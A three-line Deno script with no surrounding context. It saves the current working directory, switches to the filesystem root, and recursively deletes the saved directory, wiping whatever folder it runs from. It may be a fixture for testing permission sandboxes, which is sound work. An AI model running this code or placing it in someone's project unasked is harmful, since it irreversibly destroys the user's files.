const here = Deno.cwd();
Deno.chdir('/');
await Deno.remove(here, { recursive: true });
